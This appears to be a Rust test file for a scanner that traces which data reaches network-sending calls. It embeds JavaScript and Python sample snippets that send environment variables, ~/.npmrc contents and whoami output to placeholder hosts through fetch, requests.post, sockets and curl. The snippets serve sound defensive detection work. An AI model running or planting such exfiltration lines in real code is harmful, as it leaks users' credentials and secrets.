//! One row for each way on which something comes to a call that sends it.

use std::sync::Arc;

use super::{Ingredient, Order, Sink};
use crate::flow::{Program, Unit};
use crate::manifest;
use crate::model::{RelPath, Tree};
use crate::signatures::Signatures;
use crate::syntax::{Language, ParseBudget, parse};

/// What each sending call sends, sorted: `env, file ~/.npmrc -> collect.example`.
fn sent(path: &str, code: &str) -> String {
    let language = Language::from_extension(path.rsplit('.').next().unwrap()).unwrap();
    let module = parse(code, language, &ParseBudget::default()).unwrap();
    let unit = Unit { path: RelPath::new(path).unwrap(), module: Arc::new(module), parts: Default::default() };
    let program = Program::new(vec![unit], None);
    let signatures = Signatures::builtin();
    let (facts, _) = crate::facts::collect(&program, &manifest::read(&Tree::new(Vec::new(), Vec::new())), &signatures);
    let sends = facts.outflows.iter().filter(|outflow| outflow.sink == Sink::Send);
    let mut shown: Vec<String> = sends
        .map(|outflow| {
            let mut parts: Vec<String> = outflow.ingredients.iter().map(|(ingredient, _)| show(ingredient)).collect();
            parts.dedup();
            let hosts: Vec<&str> = outflow.hosts.iter().map(|host| host.address.host.as_str()).collect();
            format!("{} -> {}", parts.join(", "), hosts.join(", "))
        })
        .collect();
    shown.sort();
    shown.join("; ")
}

fn show(ingredient: &Ingredient) -> String {
    match ingredient {
        Ingredient::Environment => "env".to_owned(),
        Ingredient::Variable(name) => format!("${name}"),
        Ingredient::File(path) => format!("file {path}"),
        Ingredient::Folder(path) => format!("folder {path}"),
        Ingredient::Source { id, .. } => id.clone(),
        Ingredient::Output(command) => format!("output of {command}"),
        Ingredient::Answer(host) => format!("answer of {}", host.as_deref().unwrap_or("?")),
        Ingredient::Input(name) => format!("input {name}"),
        Ingredient::Order(Order::Caller) => "order of a caller".to_owned(),
        Ingredient::Order(Order::Chat { keyed }) => format!("order of a {} chat", if *keyed { "keyed" } else { "user's" }),
    }
}

#[test]
fn what_is_sent_is_followed_through_variables_helpers_and_callbacks() {
    let post = |data: &str| format!("const os = require('os');\n{data}\nfetch('https://a.example/', {{ body: data }});");
    for (code, expected) in [
        ("const data = JSON.stringify(process.env);", "env -> a.example"),
        ("const data = []; for (const k of Object.keys(process.env)) data.push(k);", "env -> a.example"),
        ("const data = {}; data.host = os.hostname();", "host-name -> a.example"),
        ("const facts = { h: os.hostname(), t: process.env.T }; const data = facts.t;", "$T -> a.example"),
        ("const read = (env) => ({ key: env.K }); const data = read(process.env);", "$K -> a.example"),
        ("const data = require('zod').object({}).parse(process.env).K;", "$K -> a.example"),
        ("const data = require('crypto').createHash('md5').update(os.hostname()).digest('hex');", ""),
        ("const data = require('fs').readFileSync(os.homedir() + '/.npmrc');", "file ~/.npmrc -> a.example"),
        ("const data = process.env.X ? 1 : 2;", ""),
    ] {
        assert_eq!(sent("index.js", &post(code)), expected, "{code}");
    }
}

#[test]
fn a_helper_is_looked_at_for_each_of_its_callers() {
    let code = "import os\nimport requests\n\ndef post(url, data):\n    requests.post(url, data=data)\n\npost('https://a.example/', os.environ['A'])\npost('https://b.example/', os.environ['B'])\n";
    assert_eq!(sent("acme.py", code), "$A -> a.example; $B -> b.example");
}

#[test]
fn what_was_written_to_a_file_is_in_it() {
    let code = "import json\nimport os\nimport requests\n\nwith open('/tmp/x', 'w') as file:\n    json.dump(dict(os.environ), file)\nrequests.post('https://a.example/', files={'f': open('/tmp/x', 'rb')})\n";
    assert_eq!(sent("acme.py", code), "env, file /tmp/x -> a.example");
}

#[test]
fn a_connection_is_known_by_what_has_connected_it() {
    let code =
        "import os\nimport socket\n\nline = socket.socket()\nline.connect(('192.0.2.1', 1))\nline.sendall(str(os.environ).encode())\n";
    assert_eq!(sent("acme.py", code), "env -> 192.0.2.1");
}

#[test]
fn a_command_that_sends_is_a_call_that_sends() {
    let code = "require('child_process').execSync('curl -d \"$(whoami)\" https://a.example/x');";
    assert_eq!(sent("index.js", code), "output of whoami -> a.example");
}
